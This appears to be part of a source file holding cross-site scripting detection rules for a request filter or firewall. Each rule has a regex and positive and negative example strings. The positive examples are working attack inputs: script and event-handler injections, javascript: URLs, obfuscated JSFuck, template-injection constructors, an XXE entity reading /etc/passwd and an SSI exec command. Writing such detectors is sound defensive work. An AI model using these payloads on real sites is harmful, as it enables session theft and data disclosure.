            # Cross-site scripting: markup that runs a script, script that a value ends a string for, and what scripts are after.
            family: xss
            definitions:
              sinks: 'alert|confirm|prompt|eval|execscript|settimeout|setinterval|setimmediate|function|fetch|importscripts|atob|btoa|unescape|decodeuricomponent|document\.write(?:ln)?|document\.open|window\.open|string\.fromcharcode|\$\.getscript|xmlhttprequest|activexobject|print|msgbox|write'
            rules:
              - id: xss-active-tag
                reason: A tag that runs, loads or replaces something stands in a value.
                structure: markup.active-tag
                parts: [path, name, parameter, cookie, body, header, referer, user-agent]
                positive: ["<script>alert(1)</script>", "\"><svg/onload=1>", "<iframe src=//x>", "%3Cmeta http-equiv=refresh content=0>", "<ScRiPt src=//x></sCrIpT>"]
                negative: ["I <3 the doctor", "blah <a href=\"/foo.html\">foo</a>", "a < b", "<b>bold</b>"]
              - id: xss-event-handler
                reason: An attribute of a tag runs a script at an event.
                structure: markup.event-handler
                parts: [path, name, parameter, cookie, body, header, referer, user-agent]
                positive: ["<img src=x onerror=alert(1)>", "<body/onload = x>", "<x onclick=y>"]
                negative: ["<img class=\"size-full\">", "<p>on sale = now</p>"]
              - id: xss-script-url
                reason: An attribute holds a URL or a style that runs a script.
                structure: markup.script-url
                positive: ["<a href=\"java&#x0A;script:alert(1)\">x</a>", "<div style=\"width: expression(alert(1))\">", "<embed src=data:text/html,x>"]
                negative: ["<a href=\"/teams/\">page</a>", "<p style=\"color:red\">x</p>"]
              - id: xss-handler-breakout
                reason: A value ends the attribute it is put into and begins an event handler.
                structure: markup.breakout
                parts: [path, name, parameter, cookie, body, header, referer, user-agent]
                positive: ["\" onblur=alert(1) \"", "x' onmouseover='y", "onfocus=alert(1) autofocus"]
                negative: ["\"on fire for\" white green", "on=1", "position=top"]
              - id: xss-handler-name
                reason: The name of a parameter is an event handler with its equals sign, for a page that prints names unread.
                parts: [name]
                literals: ["="]
                pattern: '(?:^|[\s"''`/;<>])on[a-z]{3,50}\s*='
                positive: ["%20onload%3d%20", "x\"onfocus%3d"]
                negative: ["option=", "on=", "season=on", "location[]="]
              - id: xss-form-breakout
                reason: A value ends the attribute it is put into and begins one that sends a form or a frame elsewhere.
                literals: ["formaction", "srcdoc", "xlink:href"]
                parts: [path, name, parameter, cookie, body, header, referer]
                pattern: '["''`>/]\s*(?:formaction|srcdoc|xlink:href)\s*='
                positive: ["'formaction=", "\" srcdoc=x"]
                negative: ["formaction=x", "srcdoc"]
              - id: xss-unknown-tag
                reason: A tag that ordinary text has no use for stands in a value.
                structure: markup.unknown-tag
                severity: warning
                positive: ["<form action=x>", "<image/src=x>"]
                negative: ["<b>x</b>", "<3", "a<b and c>d"]
              - id: xss-spaced-tag
                reason: A tag whose name is pulled apart by blanks, which a filter does not see and a later step takes out.
                view: script
                parts: [path, name, parameter, cookie, body, referer, user-agent]
                literals: ["<script", "<form", "<iframe", "<object", "<embed", "<svg", "<style", "<meta", "<link", "<applet", "<dialog", "<import", "<base", "script", "<marquee", "<isindex"]
                pattern: '<[^\w<>]{0,3}(?:\w{1,10}:)?(?:script|form|iframe|object|embed|svg|style|meta|link|applet|dialog|import(?:implementation)?|marquee|isindex|frameset)(?:[^\w-]|$)'
                positive: ["< x : script", "$<f o r m", "<s\tcript>x"]
                negative: ["a < formal wear", "script", "<3 style", "transcript"]
              - id: xss-script-scheme
                reason: A URL's scheme runs what follows; blanks and control characters in it are skipped as browsers do.
                view: script
                literals: ["javascript:", "vbscript:", "livescript:", "jscript:", "mocha:", "data:text/html", "javascript&colon", "wvbscript"]
                parts: [path, name, parameter, cookie, body, referer]
                positive: ["javascript:alert(1)", "java\tscript:x", "jav&#x09;ascript:x", "data:text/html;base64,PHNj"]
                pattern: '(?:javascript|vbscript|livescript|jscript|mocha)(?::|&colon)(?:$|[^a-z0-9]|[a-z0-9]{1,2}$|[a-z0-9][\w$.]*[(\[=`;/+{%\\''"?&<!*])|data:text/html'
                negative: ["javascript course", "JavaScript: ES6", "JavaScript: The Good Parts", "JavaScript: the definitive guide, 7th edition", "data: text"]
              - id: xss-call
                reason: A function that tests and exploits of scripts call, with its parenthesis.
                literals: ["alert", "confirm", "prompt", "eval", "fromcharcode", "setinterval", "settimeout", "document.write", "xmlhttprequest", "atob", "unescape", "fetch(", "function("]
                pattern: '(?:^|[^a-z0-9_$])(?:alert|confirm|prompt|eval|(?:string)?\.fromcharcode|set(?:timeout|interval|immediate)|document\.write(?:ln)?|atob|unescape|importscripts)(?:\.(?:call|apply|bind))?[\s/*]*(?:[(`]\s*\S|\)[({`])|new\s+xmlhttprequest|(?:^|[^\w])(?:function|fetch)\s*\(\s*[''"`/)]'
                positive: ["confirm(2)>/", "';alert(1)//", "alert`1`", "a=eval;b=alert;eval (x)", "String.fromCharCode(88)"]
                negative: ["1alert(1)", "prompt delivery", "alert system (wireless)", "retrieval(1)"]
              - id: xss-call-passed
                reason: A function that tests call is called where it may be missing, or handed to one that calls it, or a module is loaded.
                literals: ["?.(", ".find(", ".map(", ".foreach(", ".filter(", ".some(", ".every(", ".sort(", ".from(", "import("]
                pattern: '\b(?:alert|confirm|prompt|eval|print)\s*\?\.\s*[(`]|\.(?:find|map|foreach|filter|some|every|sort|from|reduce)\s*\(\s*(?:[^()]{0,40},\s*)?(?:alert|confirm|prompt|eval)\b|(?:^|[^\w.])import\s*\(\s*[''"`]'
                parts: [path, name, parameter, cookie, body]
                positive: ["alert?.(1)", "[1].find(alert)", "import('//x.example/a.js')"]
                negative: ["import (duty)", "map (alert)", "sort (by price)"]
              - id: xss-call-indirect
                reason: The function's name is put together or handed over, so that it does not stand before its parenthesis.
                view: script
                literals: ["alert", "confirm", "prompt", "eval", "constructor", "document", "window", "self", "top[", "this", "frames[", "location", "parent", "globalthis", "reflect."]
                pattern: '=(?:alert|confirm|prompt|eval)\b|\[[''"/]?(?:alert|confirm|prompt|eval|cookie|constructor)|\(?(?:window|self|top|this|parent|frames|globalthis|document|location)\)?\[[''"(/+`$!~]+|reflect\.\w+(?:\.\w+)?[(`]|(?:alert|confirm|prompt|eval)\)\(|\{(?:alert|confirm|prompt|eval)\b|(?:alert|confirm|prompt|eval)[''"]?\]|(?:\]|\)|[''"])\.constructor|constructor(?:\.|\()constructor|\b(?:throw|onerror)[=;].{0,20}(?:alert|eval)'
                positive: ["$=alert;$(1)", "window['ale'+'rt'](1)", "(alert)(1)", "[].constructor.constructor('x')()"]
                negative: ["window [bay]", "the alert (red)", "document[1]"]
              - id: xss-document
                reason: What scripts steal or change - cookies, locations, the page itself - is named as a script names it.
                literals: ["document", "location", "window.", "innerhtml", "outerhtml", ".cookie", "localstorage", "sessionstorage", "insertadjacenthtml", "parentnode", "self.", "top."]
                pattern: '(?:^|[^\w/.-])document\s*\.\s*(?:cookie|location|write|body|domain|url|forms|createelement|getelement|head|documentelement|referrer|images|scripts|open|location)|\b(?:window|self|top|parent|this)\s*\.\s*(?:location|name|open|document|event|alert|eval|on\w{4,})|(?:^|[;{},''"(\s])location\s*(?:\.\s*(?:href|replace|assign|hash|search))?\s*=\s*[''"`a-z]|\.(?:inner|outer)html\s*\+?=|\.(?:insertadjacenthtml|execcommand)\s*\(|\b(?:local|session)storage\s*\.\s*(?:getitem|setitem)|\.cookie\s*[;=+)]'
                positive: ["x;document.cookie", "document . location='//x'", "self.location=name", "a.innerHTML=b"]
                negative: ["document cookies policy", "location: madrid", "window.shop", "document.pdf"]
              - id: xss-style
                reason: Styles that run scripts or bind elements, in the dialects of old browsers.
                view: script
                literals: ["expression(", "-moz-binding", "behavior:", "behaviour:", "binding:url", "@import", "url(javascript", "expressi/"]
                pattern: '[:''"=;{x](?:expression|expr\w{0,20}ion)\(|-moz-binding|behaviou?r:url|binding:url\(|@import[''"(\\u]|url\([''"]?(?:javascript|data:)'
                positive: ["xss:expression(alert(1))", "x:expr/**/ession(1)", "@import'http://x/a.css'", "{-moz-binding:url(x)}"]
                negative: ["facial expression (happy)", "binding: url list"]
              - id: xss-processing
                reason: Server-side includes, entities, conditional comments and character data carry markup past filters.
                literals: ["<!--#", "<!entity", "<![cdata", "<!--[if", "<!doctype", "<?import", "<!attlist", "<!element", "&{"]
                pattern: '<!--#|<!entity|<!\[cdata\[|<!--\[if|<!doctype\s|<\?import|<!(?:attlist|element)|&\{[^}]*\}'
                positive: ["<!--#exec cmd=\"id\"-->", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "<![cdata[x]]>"]
                negative: ["50% <-- sale", "]]]>"]
              - id: xss-string-breakout
                reason: A value ends a script's string or block and comments out what follows.
                literals: ["//", "/*", "<!--", "</"]
                pattern: '[''"`)}]\s*[;,+\-*/|&%^<>=)}]+.{0,300}?(?:\(.{0,200}\)|=.{1,200}|`.*`).{0,40}(?://|/\*|<!--)[''"`]?\s*$|</(?:script|style|title|textarea|noscript|iframe|xmp|template)\s*>'
                positive: ["';x=1//", "\"-alert(1)//", "</title><b>", "}</style>"]
                negative: ["http://shop.example/a//b", "and/or"]
              - id: xss-template
                reason: Template expressions that client-side frameworks evaluate, with a call or a constructor in them.
                literals: ["{{", "${", "ng-", "v-on", "x-init", "@click"]
                pattern: '\{\{[^}]*(?:constructor|\$on|\$eval|\$new|alert|\[\s*[''"]|\.(?:call|apply|bind)\s*\()|\bng-(?:app|init|csp|click|focus|mouse\w+|bind-html|include)\b|<[^>]+\s(?:v-on:|@click|x-(?:init|data|on:)|v-html)'
                positive: ["{{constructor.constructor('alert(1)')()}}", "<input ng-focus=x>", "{{$on.constructor('x')()}}"]
                negative: ["{{product}}", "${5}"]
              - id: xss-obfuscated
                reason: Code written in punctuation alone (JSFuck, jjencode) or in character codes.
                view: script
                literals: ["![]", "+[]", "[][", "({}+", "!+[]", "\\x", "&#"]
                pattern: '(?:!\[\]|\+\[\]|!\+\[\]|!!\[\]|\[\]\[|\(\{\}\+|\+\{\})[\[\]()!+{}$_~"''|=;,.]{4,}|(?:\\x[0-9a-f]{2}){4,}'
                positive: ["[][(![]+[])[+[]]+(![]+[])[!+[]]]", "({}+[])[+!![]+[]]"]
                negative: ["[] box", "a[]=1"]
            """#
        ),
    ]
}
